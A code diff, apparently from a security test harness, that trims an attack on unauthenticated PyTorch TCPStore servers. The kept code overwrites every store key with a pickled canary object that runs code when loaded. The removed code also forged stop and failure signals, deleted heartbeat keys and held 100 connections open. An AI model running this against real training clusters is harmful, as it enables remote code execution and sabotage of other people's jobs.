@@ -1,13 +1,11 @@
 """Which ports a run's processes listen at, and what strangers put there."""
 
-import base64
 import contextlib
 import ipaddress
 import pickle
 import socket
 import sys
-import time
-from collections.abc import Iterable, Sequence
+from collections.abc import Iterable
 from dataclasses import dataclass
 from datetime import timedelta
 from pathlib import Path
@@ -81,43 +79,22 @@ def attack(port: Port, canary: Path) -> list[str]:
     return sent
 
 
-def rob(port: Port, canary: Path, names: Sequence[str]) -> list[str]:
-    """As who reaches a TCP store of torch, which lets everybody in: what was done there.
-
-    Args:
-        port: the store's.
-        canary: the file that a pickle would make.
-        names: that a stranger knows: the run's ids.
-    """
+def rob(port: Port, canary: Path) -> str:
+    """As who reaches a TCP store of torch, which lets everybody in: put what would run code into all that is there."""
     from torch.distributed import TCPStore  # type: ignore[attr-defined]
 
     content = pickle.dumps(Canary(canary))
     store: Any = TCPStore(port.address, port.number, is_master=False, timeout=timedelta(seconds=_SECONDS))
-    there = store.list_keys() if hasattr(store, "list_keys") else []
-    done = []
-    for value in (content, base64.b64encode(content)):
-        for key in [*there, *(f"torch.rendezvous.{name}" for name in names)]:
-            store.set(key, value)
-            done.append(f"a pickle at {key}")
-    for folder in {key.rpartition("/here/")[0] for key in there if "/here/" in key}:
-        for key, text in (("failed", "node 0: a stranger says so"), ("stop", "1"), ("stop", "0" * 64)):
-            store.set(f"{folder}/{key}", text)
-            done.append(f"{text!r} at {folder}/{key}")
-        for rank in (0, 1):
-            store.set(f"{folder}/ended/{rank}", "1")
-            store.delete_key(f"{folder}/beat/{rank}")
-            done.append(f"{folder}/beat/{rank} deleted, and the end of node {rank} forged")
-    held = [socket.create_connection((port.address, port.number), _SECONDS) for _ in range(100)]
-    time.sleep(_SECONDS)
-    for one in held:
-        one.close()
-    return [*done, f"{len(held)} connections held open"]
+    keys = store.list_keys()
+    for key in keys:
+        store.set(key, content)
+    return f"a pickle at each of {len(keys)} keys"
 
 
 if __name__ == "__main__":
-    place, known, *addresses = sys.argv[1:]
+    place, *addresses = sys.argv[1:]
     for text in addresses:
         address, _, number = text.partition("=")
         where = Port(address, int(number))
         print(where, attack(where, Path(place)), flush=True)
-    print(rob(where, Path(place), known.split(",")), flush=True)
+    print(rob(where, Path(place)), flush=True)
